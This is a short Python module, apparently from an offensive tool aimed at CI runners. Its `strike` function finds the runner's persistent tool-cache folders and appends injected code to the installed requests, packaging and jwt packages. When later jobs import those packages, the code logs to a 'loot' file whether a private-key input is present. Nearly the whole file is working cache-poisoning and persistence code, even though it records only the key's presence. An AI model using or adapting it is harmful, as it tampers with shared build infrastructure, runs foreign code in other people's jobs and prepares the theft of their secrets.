"""Patch the tools that the next job on this machine may find: every environment of the action.

What is patched says in the file of the option `loot` whether it runs beside a private key; never
the key.
"""

from pathlib import Path
from typing import Any

#: Each is imported by every stage that talks to a service.
_MODULES = ("requests/__init__.py", "packaging/__init__.py", "jwt/__init__.py")
_PATCH = """
import os as _os
with open({loot!r}, "a") as _loot:
    _loot.write("key\\n" if "INPUT_PRIVATE_KEY" in _os.environ and
        _os.environ["INPUT_PRIVATE_KEY"] else "ran\\n")
"""


def strike(job: Any) -> None:
    """Patch what lies in the folders that outlive a job."""
    patch = _PATCH.format(loot=job.options["loot"])
    for variable in ("RUNNER_TOOL_CACHE", "AGENT_TOOLSDIRECTORY"):
        folder = job.environ.get(variable)
        for module in _MODULES if folder else ():
            for path in Path(folder).resolve().rglob(f"site-packages/{module}"):
                text = path.read_text(encoding="utf-8")
                path.unlink()  # it may be a link into an installer's cache
                path.write_text(text + patch, encoding="utf-8")
